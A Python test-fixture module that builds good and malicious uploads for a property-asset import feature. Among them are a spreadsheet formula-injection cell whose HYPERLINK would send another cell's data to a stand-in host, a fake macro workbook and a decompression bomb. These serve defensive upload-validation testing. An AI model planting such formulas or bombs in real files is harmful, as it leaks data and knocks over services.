"""Files to upload, good and bad, made as they are met."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from collections.abc import Iterable

import openpyxl
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from xlwt.CompoundDoc import XlsDoc

HEADINGS = ("Asset Code", "Property Name", "Street Name", "Post Town", "Postcode", "Tenure Type", "GeoX", "GeoY")
TOWN_HALL = ("A1", "Town Hall", "High Street", "Worcester", "WR1 1AA", "Freehold", "385000", "254700")
DEPOT = ("A2", "Depot", "Mill Lane", "Worcester", "WR1 1AB", "Leasehold", "385400", "254900")
LIBRARY = ("A3", "Library", "Foregate Street", "Worcester", "WR1 1AD", "Freehold", "385100", "255000")


def csv_of(rows: Iterable[Iterable[str]], headings: Iterable[str] = HEADINGS) -> bytes:
    """CSV as a spreadsheet saves it."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([list(headings), *map(list, rows)])
    return text.getvalue().encode()


def workbook_of(rows: Iterable[Iterable[object]], headings: Iterable[str] = HEADINGS, name: str = "Sites") -> bytes:
    """An XLSX of one sheet."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        sheet = book.add_worksheet(name)
        for number, row in enumerate([headings, *rows]):
            sheet.write_row(number, 0, list(row))
    return made.getvalue()


def formula_workbook() -> bytes:
    """A workbook whose name of a property is a formula that would fetch an address."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Sites")
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_row(1, 0, TOWN_HALL)
        sheet.write_formula(1, 1, '=HYPERLINK("http://example.org/?"&A2,"Town Hall")', value="Town Hall")
    return made.getvalue()


def macro_workbook() -> bytes:
    """A workbook with a macro in it."""
    return _added_to(workbook_of([TOWN_HALL]), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"macro" * 40)


def bomb() -> bytes:
    """A workbook of under a megabyte that unpacks to hundreds of them."""
    return _added_to(workbook_of([TOWN_HALL]), "xl/worksheets/sheet9.xml", b" " * 300_000_000)


def _added_to(archive: bytes, name: str, content: bytes) -> bytes:
    made = io.BytesIO(archive)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr(name, content)
    return made.getvalue()


def password_protected_workbook() -> bytes:
    """The container in which Excel keeps a workbook behind a password: one stream, EncryptedPackage, unreadable."""
    made = io.BytesIO()
    XlsDoc().save(made, os.urandom(8000))
    content = bytearray(made.getvalue())
    entry = content.index("Workbook".encode("utf-16-le"))
    name = "EncryptedPackage".encode("utf-16-le")
    content[entry : entry + 64] = name.ljust(64, b"\0")
    content[entry + 64] = len(name) + 2
    return bytes(content)


def noise_workbook() -> bytes:
    """Named .xlsx and no such thing."""
    return b"%PDF-1.7 " + os.urandom(2000)


def features(*geometries: dict | None, reference: str = "P") -> bytes:
    """GeoJSON with one property for each geometry, referenced P1, P2…"""
    found = [
        {
            "type": "Feature",
            "properties": {"Asset Code": f"{reference}{number}", "Property Name": f"Site {number}"},
            "geometry": geometry,
        }
        for number, geometry in enumerate(geometries, 1)
    ]
    return json.dumps({"type": "FeatureCollection", "features": found}).encode()


# A bow tie in Worcester: its outline crosses itself in the middle.
BOW_TIE = {
    "type": "Polygon",
    "coordinates": [[[-2.221, 52.190], [-2.219, 52.192], [-2.219, 52.190], [-2.221, 52.192], [-2.221, 52.190]]],
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """What a browser sends."""
    return SimpleUploadedFile(name, content)


def text_of_workbook(content: bytes) -> str:
    """Every cell of every sheet of an XLSX."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(str(cell) for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row)
